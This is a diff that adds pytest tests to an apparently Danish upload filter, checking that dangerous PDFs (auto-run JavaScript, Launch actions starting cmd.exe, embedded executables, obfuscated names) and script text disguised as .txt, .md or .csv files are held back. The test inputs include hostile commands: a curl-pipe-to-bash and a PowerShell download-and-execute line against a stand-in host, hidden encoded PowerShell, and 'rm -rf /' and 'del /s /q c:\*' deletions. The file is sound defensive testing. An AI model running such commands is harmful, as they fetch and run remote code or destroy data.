@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import zipfile
+import zlib
 from pathlib import Path
 
 import openpyxl
@@ -18,6 +19,14 @@ PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"
 MAIL = b"From: kim@nordmose.example\r\nSubject: Stole\r\n\r\nHej"
+PROSE = """Rem på tasken skal kunne skiftes.
+Pause
+Start 1. maj, slut 30. juni = 61 dage
+Set fra brugerens side er if/then-regler = dyre regler
+E-handel (se bilag 2)
+Del 1: Get i gang med udbud
+www.nordmose.example/indkøb.js
+"""
 WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 
 
@@ -52,6 +61,25 @@ def odf(kind: str, *more: tuple[str, bytes]) -> bytes:
     return zipped(("mimetype", told), ("content.xml", b"<office:document-content/>"), *more)
 
 
+def pdf(*objects: bytes) -> bytes:
+    """A PDF of these objects."""
+    made = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
+    return PDF + made + b"trailer <</Root 1 0 R>>\n%%EOF\n"
+
+
+def stream(told: bytes, data: bytes) -> bytes:
+    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (told, len(data), data)
+
+
+def packed(told: bytes, data: bytes) -> bytes:
+    return stream(told + b"/Filter/FlateDecode", zlib.compress(data))
+
+
+def objects(inner: bytes, more: bytes = b"") -> bytes:
+    """Objects within a stream, as most programs write them."""
+    return packed(b"/Type/ObjStm/N 1/First 4" + more, b"9 0 " + inner)
+
+
 def goes(name: str, data: bytes, content_type: str = "application/octet-stream") -> bool:
     return harmless(name, content_type, data, Room()) is not None
 
@@ -60,6 +88,11 @@ def goes(name: str, data: bytes, content_type: str = "application/octet-stream")
     ("name", "data"),
     [
         ("krav på øl.pdf", PDF),
+        ("krav.pdf", pdf(b"<</OpenAction [3 0 R /FitH 800]>>", objects(b"<</Type/Page/JSON 1/EFax 2>>"))),
+        ("krav.pdf", pdf(packed(b"", b"1 0 0 1 0 0 cm (Stole) Tj"), stream(b"/Filter/DCTDecode", JPEG + b"/JS /EF"))),
+        ("krav.pdf", pdf(*(packed(b"/Subtype/Image", b"\x80" * 3_000_000) for _ in range(30)))),
+        ("låst.pdf", pdf(stream(b"/Filter/FlateDecode", b"x\x9c" + bytes(range(255, 0, -1)))) + b"/Encrypt 3 0 R"),
+        ("noter.txt", PROSE.encode()),
         ("KRAV.PDF", PDF),
         ("plan 2.0.jpeg", JPEG),
         ("møbler.png", PNG),
@@ -133,6 +166,59 @@ def test_a_name_that_says_something_else_than_what_is_in_it_helps_nothing(name: 
 )
 def test_office_with_macros_packages_or_programs_is_held(name: str, data: bytes) -> None:
     assert not goes(name, data)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
+        pdf(b"<</AA<</O<</S /Rendition /JS 5 0 R>>>>>>"),
+        pdf(b"<</S/#4aava#53cript/#4A#53<61>>>"),
+        pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
+        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", packed(b"/Type/EmbeddedFile", PROGRAM)),
+        pdf(b"<</Subtype/RichMedia>>"),
+        pdf(b"<</AcroForm<</XFA 5 0 R>>>>"),
+        pdf(objects(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")),
+        pdf(objects(b" " * 99_990 + b"<</S/Launch/F(cmd.exe)>>")),
+        pdf(objects(b"<</S/JavaScript/JS(a)>>"))[:-60],
+        pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", b"3920302031")),
+        pdf(stream(b"/N 1/First 4/Filter 7 0 R", b"3920302031")),
+        pdf(objects(b"<</Type/Page>>", b"/DecodeParms<</Predictor 12>>")),
+        pdf(objects(b"<</Type/Page>>")) + b"/Encrypt 3 0 R",
+        pdf(*(objects(b" " * 20_000_000) for _ in range(3))),
+    ],
+    ids=range(15),
+)
+def test_a_pdf_that_runs_or_starts_or_carries_something_is_held(data: bytes) -> None:
+    assert not goes("krav.pdf", data)
+    assert not goes("krav.zip", zipped(("krav.pdf", data)))
+    assert not goes("krav.docx", word(("word/embeddings/krav.pdf", data)))
+
+
+@pytest.mark.parametrize("name", ["noter.txt", "noter.md", "priser.csv"])
+@pytest.mark.parametrize(
+    "words",
+    [
+        "@echo off\r\ndel /q c:\\krav\r\n",
+        "Hej\r\n\r\n@ECHO OFF\r\n",
+        "rem Krav\r\nset X=1\r\nif exist krav.txt goto slut\r\n:slut\r\n",
+        "del /s /q c:\\*\r\n",
+        "curl -s https://nordmose.example/x | bash\n",
+        "cd /tmp\nsudo rm -rf /\n",
+        "A=$HOME/krav\nif [ -d $A ]; then\n  cp -r $A /tmp\nfi\n",
+        "$a = Get-Content krav.txt\nWrite-Host $a\n",
+        "IEX (New-Object Net.WebClient).DownloadString('https://nordmose.example/x')\n",
+        "powershell -nop -w hidden -EncodedCommand SQBFAFgA\n",
+        'Set s = CreateObject("WScript.Shell")\ns.Run "cmd"\n',
+        "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software]\n",
+        "[InternetShortcut]\nURL=file://nordmose.example/x\n",
+        "import os\nos.system('cmd')\n",
+    ],
+    ids=range(14),
+)
+def test_a_script_is_held_under_whatever_name(name: str, words: str) -> None:
+    assert not goes(name, words.encode())
+    assert not goes(name, f"\ufeff{words}".encode("utf-16-le"))
 
 
 @pytest.mark.parametrize(
